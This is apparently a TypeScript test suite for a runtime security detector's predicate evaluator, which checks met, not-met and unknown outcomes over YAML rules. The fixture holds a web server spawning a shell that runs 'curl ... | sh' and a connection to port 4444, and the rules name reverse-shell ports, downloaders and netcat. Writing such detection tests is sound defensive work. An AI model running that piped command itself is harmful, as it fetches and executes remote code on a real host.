import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { parse } from 'yaml'
import { createSubject, evaluate } from '../../src/knowledge/evaluate.ts'
import { parseTest } from '../../src/knowledge/predicate-schema.ts'
import type { Test } from '../../src/knowledge/predicate.ts'
import type { Fields } from '../../src/model/event.ts'

function test(yaml: string): Test {
  const parsed = parseTest(parse(yaml), (path, message) => {
    throw new Error(`${path.join('.')}: ${message}`)
  })
  if (parsed === null) throw new Error('no test')
  return parsed
}

function outcome(yaml: string, fields: Fields, source = 'syscall') {
  return evaluate(test(yaml), createSubject({ fields, source }))
}

const SHELL: Fields = {
  'proc.name': 'bash',
  'proc.pname': 'apache2',
  'proc.cmdline': 'bash -c curl -s https://example.com/x | sh',
  'proc.exepath': '/usr/bin/bash',
  'fd.name': '10.0.0.1:4040->198.51.100.7:4444',
  'evt.time': '1778604787387789485',
  'user.uid': 0,
  'proc.is_exe_upper_layer': false,
  'ka.user.groups': ['dev', 'ops'],
}

describe('a test', () => {
  it.each([
    '{ field: proc.name, in: shells }',
    '{ field: proc.name, in: [zsh, bash] }',
    '{ field: proc.name, equals: bash }',
    '{ field: user.uid, equals: 0 }',
    '{ field: proc.is_exe_upper_layer, equals: false }',
    '{ field: ka.user.groups, equals: ops }',
    '{ field: proc.exepath, glob: "/usr/*/b?sh" }',
    '{ field: proc.exepath, startswith: /usr }',
    '{ field: proc.exepath, endswith: bash }',
    '{ field: proc.cmdline, contains: CURL }',
    '{ field: evt.time, above: "1778604787387789484" }',
    '{ field: evt.time, below: "1778604787387789486" }',
    '{ field: evt.time, between: ["1778604787387789485", "1778604787387789485"] }',
    '{ field: proc.exepath, exists: true }',
    '{ field: proc.env, exists: false }',
    '{ field: fd.name, address: public }',
    '{ field: proc.name, same: proc.name }',
    '{ fact: remote-class, equals: public }',
    '{ fact: server-port, in: reverse-shell-ports }',
    '{ fact: server-port, above: 4000 }',
    '{ fact: host-file, exists: false }',
    '{ command: pipes-to-shell }',
    '{ command: runs downloaders }',
    '{ command: names shells }',
    '{ ancestor: web-servers }',
    '{ not: { executable: impostor } }',
    '{ all: [{ field: proc.name, in: shells }, { ancestor: services }] }',
    '{ any: [{ field: proc.env, equals: x }, { ancestor: services }] }',
  ])('%s is met', (yaml) => {
    const { state, missing } = outcome(yaml, {
      ...SHELL,
      'fd.name': yaml.includes('host-file') ? '/etc/x' : (SHELL['fd.name'] ?? ''),
    })
    expect({ state, missing }).toEqual({ state: 'met', missing: [] })
  })

  it.each([
    '{ field: proc.name, in: downloaders }',
    '{ field: proc.name, glob: "b*s" }',
    '{ field: evt.time, above: "1778604787387789485" }',
    '{ field: proc.name, above: 1 }',
    '{ field: fd.name, address: metadata }',
    '{ field: proc.exepath, exists: false }',
    '{ command: decodes }',
    '{ command: runs netcats }',
    '{ not: { ancestor: web-servers } }',
    '{ executable: deleted }',
    '{ all: [{ field: proc.env, equals: x }, { field: proc.name, in: miners }] }',
  ])('%s is not met', (yaml) => {
    expect(outcome(yaml, SHELL)).toMatchObject({ state: 'not-met', missing: [] })
  })

  it.each([
    ['{ field: proc.env, contains: x }', ['proc.env']],
    ['{ not: { field: proc.env, contains: x } }', ['proc.env']],
    ['{ command: decodes, of: parent }', ['proc.pcmdline']],
    ['{ ancestor: databases }', ['proc.aname[2]']],
    ['{ executable: added }', []],
    ['{ field: proc.name, same: proc.sname }', ['proc.sname']],
    ['{ fact: login, equals: none }', ['user.loginuid']],
    ['{ all: [{ field: proc.env, equals: x }, { field: proc.name, in: shells }] }', ['proc.env']],
    [
      '{ any: [{ field: proc.env, equals: x }, { field: proc.sname, in: shells }] }',
      ['proc.env', 'proc.sname'],
    ],
  ])('%s is not known', (yaml, missing) => {
    const { state, ...rest } = outcome(yaml, SHELL)
    if (missing.length === 0) expect(state).toBe('not-met')
    else expect({ state, ...rest }).toEqual({ state: 'unknown', evidence: [], missing })
  })

  it('gives the values that decide it, in the order of its parts', () => {
    const { evidence } = outcome(
      '{ all: [{ fact: remote-class, equals: public }, { ancestor: services }] }',
      SHELL,
    )
    expect(evidence.map(({ field, shown }) => [field, shown])).toEqual([
      ['fd.name', '198.51.100.7'],
      ['proc.pname', 'apache2'],
    ])
  })

  it('takes a placeholder for a missing value', () => {
    const started: Fields = { 'evt.type': 'container', 'proc.name': 'container:0123456789ab' }
    expect(outcome('{ field: proc.name, in: shells }', started)).toMatchObject({ state: 'unknown' })
    expect(
      outcome('{ field: fd.name, address: unspecified }', { 'fd.name': '0.0.0.0:0' }),
    ).toMatchObject({ state: 'unknown' })
  })

  it('does not know what stands in the part of a command that was cut, or that the alert does not have', () => {
    const cut: Fields = { 'proc.cmdline': 'sh -c curl https://example.com/[...]' }
    expect(outcome('{ command: pipes-to-shell }', cut)).toMatchObject({
      state: 'unknown',
      missing: ['proc.cmdline'],
    })
    expect(outcome('{ command: runs downloaders }', cut)).toMatchObject({ state: 'met' })
    const exec: Fields = { 'ka.uri.param[command]': 'tar' }
    expect(outcome('{ command: copies-in }', exec, 'k8s_audit')).toMatchObject({
      state: 'unknown',
      missing: ['ka.uri'],
    })
    const whole: Fields = { 'ka.uri': '/x/exec?command=tar&command=xf&command=-' }
    expect(outcome('{ command: copies-in }', whole, 'k8s_audit')).toMatchObject({ state: 'met' })
  })

  it('is decided by the logic of three values', () => {
    const part = fc.constantFrom<readonly [string, boolean | null]>(
      ['{ field: proc.name, in: shells }', true],
      ['{ field: proc.name, in: miners }', false],
      ['{ field: proc.env, equals: x }', null],
    )
    const name = (value: boolean | null) => (value === null ? 'unknown' : value ? 'met' : 'not-met')
    fc.assert(
      fc.property(fc.array(part, { minLength: 1, maxLength: 5 }), (parts) => {
        const list = parts.map(([yaml]) => yaml).join(', ')
        const values = new Set(parts.map(([, value]) => value))
        const all = values.has(false) ? false : values.has(null) ? null : true
        const any = values.has(true) ? true : values.has(null) ? null : false
        expect(outcome(`{ all: [${list}] }`, SHELL).state).toBe(name(all))
        expect(outcome(`{ any: [${list}] }`, SHELL).state).toBe(name(any))
        expect(outcome(`{ not: { any: [${list}] } }`, SHELL).state).toBe(
          name(any === null ? null : !any),
        )
      }),
    )
  })
})
